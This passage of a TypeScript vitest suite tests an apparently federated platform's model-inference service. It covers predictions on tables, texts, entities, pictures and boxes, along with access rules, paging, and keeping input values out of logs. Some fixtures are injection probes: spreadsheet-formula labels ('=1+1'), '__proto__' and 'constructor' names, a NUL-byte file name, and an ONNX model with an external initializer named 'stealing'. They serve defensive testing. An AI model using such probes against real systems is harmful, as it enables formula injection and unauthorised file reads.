import { createHash } from 'node:crypto'
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { InferenceResult, Input } from '@tessera/contract'
import {
  CreateInference,
  DeleteInference,
  ExplainOnce,
  ExplainRow,
  GetAskedModel,
  GetInference,
  GetPredictedGraph,
  Infer,
  InferDataset,
  InferImages,
  InferOnce,
  InferText,
  ListHeldDatasets,
  ListInferences,
  ListMyTasksAtEdge,
  ListPredictedRows,
  OfferRows,
  SaveDataset,
  VIEW_PICTURE_PATH,
} from '@tessera/contract/wire'
import { adaptInWorker } from '@tessera/inference'
import type { SentFile } from '@tessera/server'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { formOf } from '../../../../../packages/server/src/testing/form-of.ts'
import type { Browser } from '../../testing/browser.ts'
import { person } from '../../testing/fake-platform.ts'
import { holdPredictions } from '../../testing/hold-predictions.ts'
import { picture } from '../../testing/pictures.ts'
import { buildWorld, peopleCsv, until, type World, zipOf } from '../../testing/world.ts'
import { findDatasetByTable } from '../rows/queries.ts'
import { resume } from './jobs.ts'
import { deleteInferenceRow, findInference, type StoredInference, updateInference } from './queries.ts'

/** The model uses age (mean 50, deviation 10) and sex. It predicts that older and male rows are ill. */
const file = modelFile('classes')
const readingElsewhere = modelFile('external-initializer')
const card = {
  algorithm: 'logistic-regression',
  name: 'Illness',
  label: 'ill',
  columns: ['age', 'sex'],
  input: {
    kind: 'table',
    columns: [
      { name: 'c0', column: 'age', kind: 'number', example: 50 },
      { name: 'c1', column: 'sex', kind: 'category', categories: ['f', 'm'] },
    ],
  },
  output: { kind: 'classes', label: 'ill', classes: ['no', 'yes'] },
  metrics: {},
  parties: [],
  rounds: 3,
  codeHash: 'x',
}

/** Coefficients of the model in `file`, from its weights. */
const coefficients = [
  { column: null, category: null, class: 'yes', estimate: -11.2 },
  { column: 'age', category: null, class: 'yes', estimate: 0.2 },
  { column: 'sex', category: 'm', class: 'yes', estimate: 2 },
  { column: 'sex', category: '', class: 'yes', estimate: 1 },
]
const settled = {
  constant: [],
  collinear: [],
  separated: [],
  ridge: 0,
  converged: true,
  rows: 101,
  averaged: 0,
  changed: 0,
}

function modelFile(name: string): Buffer {
  return readFileSync(
    fileURLToPath(new URL(`../../../../../packages/inference/test-data/${name}.onnx`, import.meta.url)),
  )
}

const sha256Of = (of: Buffer | string) => createHash('sha256').update(of).digest('hex')

let world: World
let alice: Browser
let count = 0
beforeAll(async () => {
  world = await buildWorld()
  world.fake.models.set('m1', { file, card })
  const [age, sex] = card.input.columns
  const seen = { points: [20, 80], counts: [6, 90, 5] }
  const input1 = {
    kind: 'table',
    columns: [
      { ...age, seen },
      { ...sex, seen: { points: [], counts: [60, 41, 0] } },
    ],
  }
  world.fake.models.set('seen', { file, card: { ...card, input: input1, regression: { coefficients, ...settled } } })
  world.fake.models.set('formulas', {
    file: modelFile('formulas'),
    card: { ...card, output: { ...card.output, classes: ['=1+1', '__proto__'] } },
  })
  world.fake.models.set('oddly named', { file, card: { ...card, output: { ...card.output, label: 'constructor' } } })
  world.fake.models.set('clusters', {
    file: modelFile('clusters'),
    card: { ...card, label: '', output: { kind: 'clusters', label: 'cluster', clusters: 2 } },
  })
  world.fake.models.set('texts', {
    file: modelFile('texts'),
    card: {
      ...card,
      label: 'label_tone',
      columns: ['text'],
      input: { kind: 'texts', name: 'c0', column: 'text', longest: 2000 },
      output: { kind: 'classes', label: 'label_tone', classes: ['calm', 'wild'] },
    },
  })
  world.fake.models.set('labels', {
    file: modelFile('labels'),
    card: {
      ...card,
      label: 'tones',
      columns: ['text'],
      input: { kind: 'texts', name: 'c0', column: 'text', longest: 2000 },
      output: { kind: 'labels', label: 'tones', classes: ['calm', 'wild'] },
    },
  })
  const named = modelFile('labels').toString('latin1').replaceAll('calm', '=1+1')
  world.fake.models.set('labels, oddly named', {
    file: Buffer.from(named, 'latin1'),
    card: {
      ...card,
      label: 'tones',
      columns: ['text'],
      input: { kind: 'texts', name: 'c0', column: 'text', longest: 2000 },
      output: { kind: 'labels', label: 'tones', classes: ['=1+1', 'wild'] },
    },
  })
  world.fake.models.set('entities', {
    file: modelFile('entities'),
    card: {
      ...card,
      label: 'tags',
      columns: ['tokens'],
      input: { kind: 'tokens', name: 'c0', column: 'tokens', longest: 500, letters: 16 },
      output: { kind: 'entities', label: 'tags', classes: ['DRUG', 'WHO'] },
    },
  })
  world.fake.models.set('graph', {
    file: modelFile('graph'),
    card: {
      ...card,
      label: 'label',
      columns: ['age'],
      input: { kind: 'graph', columns: [{ column: 'age', example: 50 }] },
      output: { kind: 'classes', label: 'label', classes: ['no', 'yes'] },
    },
  })
  world.fake.models.set('pictures', {
    file: modelFile('pictures'),
    card: {
      ...card,
      label: 'tone',
      columns: ['file'],
      input: { kind: 'pictures', name: 'c0', column: 'file', longest: 512, side: 224 },
      output: { kind: 'classes', label: 'tone', classes: ['cold', 'warm'] },
    },
  })
  world.fake.models.set('boxes', {
    file: modelFile('boxes'),
    card: {
      ...card,
      label: 'boxes',
      columns: ['file'],
      input: { kind: 'pictures', name: 'c0', column: 'file', longest: 512, side: 64 },
      output: { kind: 'boxes', label: 'boxes', classes: ['blue', 'red'], least: 0.05, overlap: 0.5 },
    },
  })
  const described = { label: 'biopsy', output: 'probabilities', reading: 'chances' } as const
  const classes = ['benign', 'malignant']
  world.fake.models.set('imported', {
    file: Buffer.from(
      await adaptInWorker(modelFile('imported'), { ...described, columns: [['age', 'chol']], classes }),
    ),
    card: {
      ...card,
      algorithm: '',
      codeHash: '',
      rounds: 0,
      label: 'biopsy',
      columns: ['age', 'chol'],
      input: {
        kind: 'table',
        columns: [
          { name: 'c0', column: 'age', kind: 'number' },
          { name: 'c1', column: 'chol', kind: 'number' },
        ],
      },
      output: { kind: 'classes', label: 'biopsy', classes },
      imported: { fileName: 'biopsy.onnx', sha256: 'x', bytes: 335, partyId: 'p1' },
    },
  })
  world.fake.models.set('broken', { file: Buffer.from('no model'), card })
  for (const modelId of ['accepted', 'old, good', 'old, bad', 'old, another']) {
    world.fake.models.set(modelId, { file, card })
  }
  world.fake.models.set('stealing', { file: readingElsewhere, card })
  world.fake.models.set('swapped in transit', { file, card, logged: 'f'.repeat(64) })
  world.fake.models.set('outgrowing', { file: modelFile('outgrows'), card })
  await world.connect()
  alice = await world.openSession('alice')
})
afterAll(() => world.close())

async function created(modelId = 'm1', as = person('alice')) {
  count += 1
  const inferenceId = await world.call(CreateInference, { modelId, name: `Task ${count}`, description: 'd' }, as)
  await until(async () => (await statusOf(inferenceId, as)) !== 'creating')
  return inferenceId
}
const statusOf = async (inferenceId: string, as = person('alice')) =>
  (await world.call(GetInference, { inferenceId }, as)).inference.status

/** Returns the path of a model's file. */
function keptFile(modelId: string): string {
  return join(world.dataDir, 'models', `${sha256Of(modelId).slice(0, 32)}.onnx`)
}

/** Leaves an unfinished task as a killed edge would. */
function interrupt(inferenceId: string, more: Partial<StoredInference>) {
  const inference = findInference(world.db, inferenceId) as StoredInference
  updateInference(world.db, { ...inference, status: 'running', ...more })
}
const results = () => readdirSync(join(world.dataDir, 'results'))

async function withDatasetResult(csv = 'age,sex\n1,m\n99,m\n', modelId = 'm1') {
  const { datasetId } = await world.dataSet(csv, `Whole ${count}`)
  const inferenceId = await created(modelId)
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  const path = findInference(world.db, inferenceId)?.result?.resultPath ?? ''
  return { inferenceId, datasetId, file: join(world.dataDir, path), path }
}

test('predicts the values of a form at the edge, and reports only the use of the model to the platform', {
  meta: { spec: ['entities.inference-job', 'calls.flModelInference/inference', 'calls.flModelInference/queryById'] },
}, async () => {
  const inferenceId = await created()
  const before = await world.call(GetInference, { inferenceId })
  expect(before).toMatchObject({
    type: '',
    result: null,
    inference: { modelName: 'Illness', input: { kind: 'table', columns: [{ example: 50 }, {}] } },
  })

  const result = await world.call(Infer, {
    inferenceId,
    rows: [
      { age: 76543, sex: 'm' },
      { age: '31', sex: 'f' },
    ],
  })
  expect(result.predictions.map((one) => one.result)).toEqual(['yes', 'no'])
  expect(result.header).toEqual(['age', 'sex'])
  expect(await world.call(GetInference, { inferenceId })).toMatchObject({
    type: 'tabular',
    inference: { status: 'completed' },
  })
  await until(() => world.fake.reports.some((one) => one.kind === 'model-use'))
  expect(JSON.stringify(world.fake.reports)).not.toContain('76543')
})

test('predicts and explains without a task, and stores only the use of the model in the log', {
  meta: { spec: 'screens.try-model' },
}, async () => {
  const before = world.call(ListInferences, {})
  // Values with a decimal point, because the digits of whole numbers could also occur in hashes.
  const [given, row] = [
    { age: 76541.28391, sex: 'm' },
    { age: 76542.28391, sex: 'f' },
  ]
  const result = await world.call(InferOnce, { modelId: 'seen', rows: [given, row] })
  expect(result.predictions.map(({ data, result }) => [data.age, result])).toEqual([
    [76541.28391, 'yes'],
    [76542.28391, 'yes'],
  ])
  const why = await world.call(ExplainOnce, { modelId: 'seen', row })
  expect(why).toMatchObject({ method: 'linear', class: 'yes' })
  // The second use on the same day: the platform receives one report per day and user.
  await world.call(InferOnce, { modelId: 'seen', rows: [row] }, person('bob'))
  await world.call(InferOnce, { modelId: 'seen', rows: [row] })

  expect((await world.call(ListInferences, {})).total).toBe((await before).total)
  const reported = () => world.fake.reports.filter((one) => one.kind === 'model-use' && one.name === '')
  await until(() => reported().length === 2)
  expect(reported().map((one) => one.kind === 'model-use' && one.userId)).toEqual(['u-alice', 'u-bob'])
  const lines = readFileSync(join(world.dataDir, 'log/decisions.jsonl'), 'utf8').trim().split('\n')
  const entries = lines.map((line) => JSON.parse(line)).filter(({ data }) => data?.modelId === 'seen' && data.rows)
  expect(entries.slice(-4).map(({ data }) => data)).toEqual([
    { userId: 'u-alice', modelId: 'seen', sha256: sha256Of(file), rows: 2 },
    { userId: 'u-alice', modelId: 'seen', sha256: sha256Of(file), rows: 1, act: 'explain' },
    { userId: 'u-bob', modelId: 'seen', sha256: sha256Of(file), rows: 1 },
    { userId: 'u-alice', modelId: 'seen', sha256: sha256Of(file), rows: 1 },
  ])
  const stored = readdirSync(world.dataDir, { recursive: true, withFileTypes: true }).filter((one) => one.isFile())
  expect(stored.length).toBeGreaterThan(3)
  for (const one of stored) {
    expect(readFileSync(join(one.parentPath, one.name)).includes('.28391'), one.name).toBe(false)
  }
})

test.each([
  ['another party’s model', { modelId: 'nobody’s', rows: [{ age: 50, sex: 'm' }] }, 'model.not-found'],
  ['a row without a column', { modelId: 'm1', rows: [{ age: 50 }] }, 'inference.column-missing'],
])(
  'refuses a prediction without a task for %s',
  { meta: { spec: 'screens.try-model' } },
  async (_what, input, code) => {
    await expect(world.call(InferOnce, input)).rejects.toMatchObject({ code })
  },
)

test('lists the inference tasks of the edge in “my tasks” and shows each user only the tasks that they may see', {
  meta: { spec: 'calls.flJobRecruit/listMyJob' },
}, async () => {
  const inferenceId = await created()
  const ask = (input: Input<typeof ListMyTasksAtEdge>, as = person('alice')) => world.call(ListMyTasksAtEdge, input, as)
  const [card] = (await ask({ pageNo: 1, pageSize: 1 })).records
  expect(card).toMatchObject({ id: inferenceId, type: 'inference', partyName: 'First Hospital', rowCount: 0 })
  expect(card?.modelId).toBeTruthy()
  const { total } = await ask({})
  expect((await ask({ type: 'INFERENCE' })).total).toBe(total)
  expect(await ask({ type: 'TRAIN' })).toMatchObject({ records: [], total: 0 })
  expect((await ask({ name: card?.name ?? '' })).records.map(({ id }) => id)).toContain(inferenceId)
  expect((await ask({}, person('bob'))).records.map(({ id }) => id)).not.toContain(inferenceId)
})

test('reads the full results only for the tasks of one page, newest first, also in a search by name', async () => {
  const dora = person('dora')
  const made: string[] = []
  for (const name of ['ÄRZTE 1', 'ärzte 2', 'Ärzte 3', 'other', 'ärzte 4'])
    made.push(await world.call(CreateInference, { modelId: 'm1', name, description: 'd' }, dora))
  await until(async () => (await statusOf(made[4] ?? '', dora)) === 'created')
  for (const id of made) await until(async () => (await statusOf(id, dora)) !== 'creating')
  // These results are invalid JSON, so reading them would throw.
  const breakResult = world.db.prepare(`update inferences set result = '{' where id = ?`)
  for (const id of made.slice(0, 2)) breakResult.run(id)
  for (const endpoint of [ListInferences, ListMyTasksAtEdge]) {
    const listed = async (input: { name?: string; pageNo?: number }, as = dora) => {
      const { records, total, pages } = await world.call(endpoint, { pageSize: 2, ...input }, as)
      return { names: records.map(({ name }) => name), total, pages }
    }
    expect(await listed({})).toEqual({ names: ['ärzte 4', 'other'], total: 5, pages: 3 })
    expect(await listed({ name: 'äRZTE' })).toEqual({ names: ['ärzte 4', 'Ärzte 3'], total: 4, pages: 2 })
    expect(await listed({ name: 'ärzte' }, person('erna'))).toEqual({ names: [], total: 0, pages: 0 })
    expect((await listed({ name: 'ärzte' }, person('erna', { role: 'admin' }))).total).toBe(4)
    await expect(listed({ pageNo: 2, name: 'ärzte' })).rejects.toThrow()
  }
  world.db.prepare('delete from inferences where created_by_user_id = ?').run('u-dora')
})

test('predicts and explains a text, and predicts a dataset of texts, with wrong predictions first', {
  meta: { spec: ['screens.inference-result-texts', 'calls.flModelInference/inference_nlp'] },
}, async () => {
  const inferenceId = await created('texts')
  const { type, predictions } = await world.call(InferText, { inferenceId, text: 'b b B a' })
  expect(type).toBe('nlp')
  expect(predictions).toMatchObject([{ kind: 'classes', result: 'wild', data: { text: 'b b B a' } }])
  const { pieces } = await world.call(ExplainRow, { inferenceId, row: { text: 'b b B a' } })
  expect(pieces?.map(({ text, effect }) => [text, Math.sign(effect)])).toEqual([
    ...[
      ['b ', 1],
      ['b ', 1],
      ['B ', 1],
      ['a', -1],
    ],
  ]) // prettier-ignore

  const texts = ['text,label_tone', ...Array.from({ length: 9 }, () => '"a, a",calm'), '"a ""b"" b",calm'].join('\n')
  const { datasetId } = await world.dataSet(texts, `Texts ${count}`)
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  expect(await world.call(GetInference, { inferenceId })).toMatchObject({
    type: 'nlpCollection',
    result: { rowCount: 10, header: ['text', 'label_tone'] },
  })
  const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 3 })
  expect(records).toHaveLength(3)
  expect(records[0]).toMatchObject({ result: 'wild', data: { text: 'a "b" b' } })
  const ofCell = await world.call(ListPredictedRows, { inferenceId, truth: 0, predicted: 1 })
  expect(ofCell).toMatchObject({ total: 1, records: [{ result: 'wild', data: { text: 'a "b" b' } }] })
  await world.call(DeleteInference, { inferenceId })
})

test('predicts any number of labels per text with their probabilities, and lists rows with the most wrong labels first', {
  meta: { spec: 'screens.multilabel-data' },
}, async () => {
  const inferenceId = await created('labels')
  for (const [text, result] of [
    ['a a', 'calm'],
    ['a b', 'calm, wild'],
    ['x', ''],
  ] as const) {
    const { predictions } = await world.call(InferText, { inferenceId, text })
    expect(predictions).toMatchObject([{ kind: 'labels', result, data: { text } }])
    expect(Object.keys((predictions[0] as { probabilities: object }).probabilities)).toEqual(['calm', 'wild'])
  }
  const why = await world.call(ExplainRow, { inferenceId, row: { text: 'a x' } })
  expect(why).toMatchObject({ class: 'calm', against: null })
  expect(why.pieces?.map(({ text, effect }) => [text, effect > 0])).toEqual([
    ['a ', true],
    ['x', false],
  ])

  const lines = [
    ...Array.from({ length: 7 }, () => ({ text: 'a', tones: ['calm', 'loud'] })),
    { text: 'a b', tones: ['wild'] },
    { text: 'x', tones: ['calm', 'wild'] },
    { text: '=x', tones: [] },
  ].map((one) => JSON.stringify(one))
  const { draftId } = await world.upload(await zipOf({ 'tones.jsonl': lines.join('\n') }))
  const { datasetId } = await world.call(SaveDataset, { draftId, name: 'Tones', description: 'd', sharing: 'party' })
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  const { result } = await world.call(GetInference, { inferenceId })
  expect(result).toMatchObject({
    type: 'nlpCollection',
    rowCount: 10,
    accuracy: 0.8,
    summary: {
      results: [
        { name: 'calm', rows: 8 },
        { name: 'wild', rows: 1 },
      ],
      labels: [
        { type: 'calm', found: 7, there: 8, predicted: 8 },
        { type: 'wild', found: 1, there: 2, predicted: 1 },
      ],
    },
  })
  const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 10 })
  expect(records.map(({ data, result }) => [data.text, result]).slice(0, 3)).toEqual([
    ['x', ''],
    ['a b', 'calm, wild'],
    ['a', 'calm'],
  ])
  expect(records.find(({ data }) => data.text === '=x')).toMatchObject({ kind: 'labels', result: '' })
  const written = readFileSync(join(world.dataDir, result?.resultPath ?? ''), 'utf8')
  expect(written.split('\r\n')[0]).toContain('probability calm,probability wild')
  await world.call(DeleteInference, { inferenceId })
})

test('recognises a label that a spreadsheet would run as a formula, within a list or alone in a cell', {
  meta: { spec: 'screens.multilabel-data' },
}, async () => {
  for (const cellOf of [(label: string) => [label], (label: string) => label]) {
    const inferenceId = await created('labels, oddly named')
    const lines = [
      ...Array.from({ length: 8 }, () => ({ text: 'a', tones: cellOf('=1+1') })),
      { text: 'x', tones: cellOf('=1+1') },
      { text: 'b', tones: Array.isArray(cellOf('')) ? ['wild', 'loud'] : 'wild' },
    ].map((one) => JSON.stringify(one))
    const { draftId } = await world.upload(await zipOf({ 'tones.jsonl': lines.join('\n') }))
    const name = `Tones ${count}`
    const { datasetId } = await world.call(SaveDataset, { draftId, name, description: 'd', sharing: 'party' })
    await world.call(InferDataset, { inferenceId, datasetId })
    await until(async () => (await statusOf(inferenceId)) === 'completed')
    const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 2 })
    expect(records.map(({ data, result }) => [data.text, result])).toEqual([
      ['x', ''],
      ['a', '=1+1'],
    ])
    await world.call(DeleteInference, { inferenceId })
  }
})

test('returns the entities of a text with their positions, and counts the found and missed entities of a dataset', {
  meta: { spec: 'screens.inference-result-entities' },
}, async () => {
  const inferenceId = await created('entities')
  const { type, predictions } = await world.call(InferText, { inferenceId, text: '今天 Ann Lee took Ibu.' })
  expect(type).toBe('nlp')
  expect(predictions).toMatchObject([
    {
      kind: 'entities',
      text: '今天 Ann Lee took Ibu.',
      result: 'WHO: Ann Lee; DRUG: Ibu',
      entities: [
        { start: 3, end: 10, type: 'WHO' },
        { start: 16, end: 19, type: 'DRUG' },
      ],
    },
  ])
  const row = { tokens: 'Ann slept' }
  const { entities } = await world.call(ExplainRow, { inferenceId, row })
  expect(entities).toMatchObject([
    { start: 0, end: 3, type: 'WHO', pieces: [{ text: 'Ann ' }, { text: 'slept', effect: 0 }] },
  ])
  await expect(world.call(ExplainRow, { inferenceId, row }, person('bob'))).rejects.toMatchObject({
    code: 'inference.not-found',
  })

  const lines = [
    { tokens: ['Ann', 'Lee', 'slept'], tags: ['B-WHO', 'I-WHO', 'O'] },
    { tokens: ['Ibu', 'for', 'Bo'], tags: ['S-DRUG', 'O', 'S-WHO'] },
    ...Array.from({ length: 8 }, () => ({ tokens: ['=1+1'], tags: ['O'] })),
  ].map((one) => JSON.stringify(one))
  const { draftId } = await world.upload(await zipOf({ 'notes.jsonl': lines.join('\n') }))
  const { datasetId } = await world.call(SaveDataset, { draftId, name: 'Notes', description: 'd', sharing: 'party' })
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  const { result } = await world.call(GetInference, { inferenceId })
  expect(result).toMatchObject({
    type: 'nlpCollection',
    rowCount: 10,
    accuracy: null,
    summary: {
      results: [
        { name: 'WHO', rows: 1 },
        { name: 'DRUG', rows: 1 },
      ],
      entities: [
        { type: 'DRUG', found: 1, there: 1, predicted: 1 },
        { type: 'WHO', found: 1, there: 2, predicted: 1 },
      ],
      mistakes: [{ text: 'Bo', type: 'WHO', missed: 1, falseAlarms: 0 }],
    },
  })
  const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 3 })
  expect(records[0]).toMatchObject({ text: 'Ibu for Bo', entities: [{ start: 0, end: 3, type: 'DRUG' }] })
  expect(records[1]).toMatchObject({
    kind: 'entities',
    text: 'Ann Lee slept',
    entities: [{ start: 0, end: 7, type: 'WHO' }],
    data: { tokens: '["Ann","Lee","slept"]' },
  })
  expect(records[2]).toMatchObject({ text: '=1+1', entities: [], result: '' })
  const file = join(world.dataDir, result?.resultPath ?? '')
  const withoutCounts = readFileSync(file, 'utf8').replaceAll(/,[^,\r]*,[^,\r]*\r\n/g, '\r\n')
  writeFileSync(file, withoutCounts)
  const former = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 3 })
  expect(former.records[0], 'a file of an edge that did not count').toEqual(records[1])
  await world.call(DeleteInference, { inferenceId })
})

describe('uploaded pictures', () => {
  /** Creates a picture that is red above and blue below. `orientation` is the rotation that a camera stores. */
  const warm = (orientation = 1) => {
    const [red, blue] = [
      [255, 0, 0],
      [0, 0, 255],
    ]
    const isTurned = orientation === 6
    const pixels = isTurned ? [red, blue, red, blue] : [red, red, blue, blue]
    return sharp(Uint8Array.from(pixels.flat() as number[]), { raw: { width: 2, height: 2, channels: 3 } })
      .withExif({ IFD0: { Artist: 'Alice at home' } })
      .withMetadata({ orientation })
  }
  const cold = () => sharp({ create: { width: 900, height: 300, channels: 3, background: '#0000ff' } })
  const sent = async () => [
    { name: 'cold.jpep', content: await cold().jpeg().toBuffer() },
    { name: 'same.png', content: await warm().png().toBuffer() },
    { name: 'same.png', content: await warm(6).png().toBuffer() },
    { name: 'IMG_1.JPG', content: await cold().jpeg().toBuffer() },
  ]
  const send = (inferenceId: string, files: SentFile[], as = person('alice')) =>
    world.call(InferImages, { inferenceId }, as, files)

  test('predicts uploaded pictures in their order and upright, returns each prediction with the file name, and stores no picture', {
    meta: { spec: 'calls.flModelInference/inferenceImages' },
  }, async () => {
    const inferenceId = await created('pictures')
    const { type, predictions, rowCount } = await send(inferenceId, await sent())
    expect([type, rowCount]).toEqual(['vision', 4])
    expect(predictions.map(({ name, prediction }) => [name, prediction.result, prediction.data])).toEqual([
      ['cold.jpep', 'cold', { name: 'cold.jpep' }],
      ['same.png', 'warm', { name: 'same.png' }],
      ['same.png', 'warm', { name: 'same.png' }],
      ['IMG_1.JPG', 'cold', { name: 'IMG_1.JPG' }],
    ])
    const shown = predictions.map(({ base64 }) => Buffer.from(base64, 'base64'))
    const looks = await Promise.all(shown.map((file) => sharp(file).metadata()))
    expect(looks.map(({ format, width, height }) => [format, width, height])).toEqual([
      ['jpeg', 512, 171],
      ['png', 2, 2],
      ['png', 2, 2],
      ['jpeg', 512, 171],
    ])
    const upright = (file: Buffer) => sharp(file).raw().toBuffer()
    expect(await upright(shown[2] as Buffer)).toEqual(await upright(shown[1] as Buffer))
    expect(looks.map(({ orientation, exif }) => [orientation, exif])).toEqual(Array(4).fill([undefined, undefined]))

    const { result } = await world.call(GetInference, { inferenceId })
    expect(result?.predictions.map(({ data }) => data)).toEqual(predictions.map(({ name }) => ({ name })))
    expect(JSON.stringify(findInference(world.db, inferenceId))).not.toContain(predictions[1]?.base64.slice(0, 40))
  })

  test('returns predictions of pictures in the format that older clients expect', {
    meta: { spec: 'calls.flModelInference/inferenceImages' },
  }, async () => {
    const inferenceId = await created('pictures')
    const { headers, payload } = formOf({ id: inferenceId }, (await sent()).slice(0, 1))
    const answer = await world.app.inject({
      method: 'POST',
      url: InferImages.path,
      payload,
      headers: { ...headers, ...(await alice.headers('POST', InferImages.path, payload)) },
    })
    expect(answer.json()).toMatchObject({ success: true, code: 200 })
    expect(answer.json().result.flInferenceInfoVoList).toEqual([
      expect.objectContaining({ name: 'cold.jpep', result: 'cold', base64: expect.stringMatching(/^\/9j\//) }),
    ])
  })

  const one = Buffer.alloc(6 * 1024 * 1024)
  const params = { most: 20, megabytes: 10 }
  test.each<[string, () => Promise<SentFile[]>, string, object]>([
    ['none', async () => [], 'file.missing', {}],
    ['too many', async () => Array(21).fill((await sent())[1]), 'file.too-many', params],
    ['too large ones', async () => ['a.png', 'b.png'].map((name) => ({ name, content: one })), 'file.too-many', params],
    ['one too large', async () => [{ name: 'a.png', content: Buffer.concat([one, one]) }], 'file.too-many', params],
    [
      'a file with another extension',
      async () => [{ name: 'a.gif', content: one }],
      'inference.picture-ending',
      { name: 'a.gif' },
    ],
    [
      'an invalid picture beside valid ones',
      async () => [...(await sent()), { name: 'note.png', content: Buffer.from('hello') }],
      ...(['inference.picture-broken', { name: 'note.png' }] as const),
    ],
    [
      'a truncated picture',
      async () => [{ name: 'half.jpg', content: (await cold().jpeg().toBuffer()).subarray(0, 900) }],
      ...(['inference.picture-broken', { name: 'half.jpg' }] as const),
    ],
    ['a name with a NUL', async () => [{ name: 'a\0.png', content: one.subarray(0, 9) }], 'request.nul', {}],
  ])(
    'refuses an upload of pictures and can still predict afterwards: %s',
    { meta: { spec: 'calls.flModelInference/inferenceImages' } },
    async (_what, files, code, params) => {
      const inferenceId = await created('pictures')
      await expect(send(inferenceId, await files())).rejects.toMatchObject({ code, params })
      expect(await statusOf(inferenceId)).toBe('created')
    },
  )

  test("returns errors in the caller's language", {
    meta: { spec: 'calls.flModelInference/inferenceImages' },
  }, async () => {
    const inferenceId = await created('pictures')
    const { headers, payload } = formOf({ id: inferenceId }, [{ name: '附件.png', content: Buffer.from('hello') }])
    const say = async (language: string) => {
      const all = {
        ...headers,
        ...(await alice.headers('POST', InferImages.path, payload)),
        'accept-language': language,
      }
      return (await world.app.inject({ method: 'POST', url: InferImages.path, payload, headers: all })).json().message
    }
    expect(await say('zh-CN')).toMatch(/^无法将“附件.png”读作图片。/)
    expect(await say('en')).toMatch(/^“附件.png” cannot be read as a picture\./)
  })

  test('refuses pictures for a model of other data, and a request that is not a form', async () => {
    const inferenceId = await created()
    await expect(send(inferenceId, await sent())).rejects.toMatchObject({ code: 'inference.not-pictures' })
    const payload = { id: inferenceId }
    const headers = { ...(await alice.headers('POST', InferImages.path, payload)), 'content-type': 'application/json' }
    const answer = await world.app.inject({
      method: 'POST',
      url: InferImages.path,
      headers,
      payload,
    })
    expect([answer.statusCode, answer.json().error]).toEqual([400, 'request.form-broken'])
  })

  test('predicts uploaded pictures only for users who may use the task', {
    meta: { spec: 'calls.flModelInference/inferenceImages' },
  }, async () => {
    const inferenceId = await created('pictures')
    await expect(send(inferenceId, await sent(), person('bob'))).rejects.toMatchObject({ code: 'inference.not-found' })
    const stranger = person('eve', { partyId: '1002' })
    await expect(send(inferenceId, await sent(), stranger)).rejects.toMatchObject({ code: 'edge.session-required' })
    updateInference(world.db, { ...(findInference(world.db, inferenceId) as StoredInference), status: 'running' })
    await expect(send(inferenceId, await sent())).rejects.toMatchObject({ code: 'inference.busy' })
  })
})

test("places boxes on the upright picture, and lists the dataset's pictures with the most wrong boxes first", async () => {
  /** Pictures of 64 × 64 pixels with a red square of 8 pixels. Its centre is that of a box of 48 × 32 pixels. */
  const red = (left: number, top: number) =>
    sharp({ create: { width: 64, height: 64, channels: 3, background: '#000000' } }).composite([
      { input: { create: { width: 8, height: 8, channels: 3, background: '#ff0000' } }, left, top },
    ])
  const lying = async () =>
    sharp(await red(24, 16).png().toBuffer())
      .rotate(270)
      .withMetadata({ orientation: 6 })
      .png()
      .toBuffer()
  const inferenceId = await created('boxes')
  const files = [{ name: 'lying.png', content: await lying() }]
  const { type, predictions } = await world.call(InferImages, { inferenceId }, person('alice'), files)
  const there = { class: 'red', x: 0.4375, y: 0.3125, w: 0.75, h: 0.5 }
  expect([type, predictions[0]?.prediction]).toEqual([
    'yolo',
    {
      kind: 'boxes',
      result: 'red 1',
      data: { name: 'lying.png' },
      boxes: [{ ...there, score: expect.closeTo(1, 3) }],
    },
  ])
  const row = { file: (await lying()).toString('base64') }
  await expect(world.call(ExplainRow, { inferenceId, row })).rejects.toMatchObject({ code: 'inference.why-boxes' })

  const draft = await world.upload(
    await zipOf({
      'classes.txt': 'red\nblue\ngreen',
      'images/1-lying.png': await lying(),
      'images/2-moved.png': await red(24, 48).png().toBuffer(),
      'images/3-black.png': await picture('png'),
      'labels/1-lying.txt': '0 0.4375 0.3125 0.75 0.5\n2 0.4375 0.3125 0.75 0.5',
      'labels/2-moved.txt': '0 0.4375 0.3125 0.75 0.5',
    }),
  )
  await world.call(SaveDataset, { draftId: draft.draftId, name: `Red ${count}`, description: 'd', sharing: 'party' })
  const datasetId = findDatasetByTable(world.db, draft.tableName)?.id as string
  await world.call(InferDataset, { inferenceId, datasetId })
  await until(async () => (await statusOf(inferenceId)) === 'completed')
  expect(await world.call(GetInference, { inferenceId })).toMatchObject({
    type: 'yoloCollection',
    result: {
      rowCount: 3,
      header: ['name', 'boxes'],
      summary: {
        boxes: [
          { type: 'blue', found: 0, there: 0, predicted: 0 },
          { type: 'red', found: 1, there: 2, predicted: 2 },
        ],
      },
    },
  })
  const { records } = await world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 3 })
  expect(records.map(({ data, result }) => [data.name, result])).toEqual([
    ['2-moved.png', 'red 1'],
    ['1-lying.png', 'red 1'],
    ['3-black.png', ''],
  ])
  expect(records[1]).toMatchObject({ kind: 'boxes', boxes: [there], data: { token: expect.any(String) } })
  const { resultPath } = (await world.call(GetInference, { inferenceId })).result ?? {}
  const [heads = '', first] = readFileSync(join(world.dataDir, resultPath ?? ''), 'utf8').split('\r\n')
  expect(heads).toMatch(/,prediction,boxes \(model\),missed,false alarms$/)
  expect(first).toMatch(/,red 1,.*,0,0$/)
  await world.call(DeleteInference, { inferenceId })
})

test('predicts a node together with its neighbours in a request, and all nodes of a dataset', {
  meta: { spec: 'screens.inference-result-graph' },
}, async () => {
  const inferenceId = await created('graph')
  // The node itself has a low age, but its neighbours have high ages.
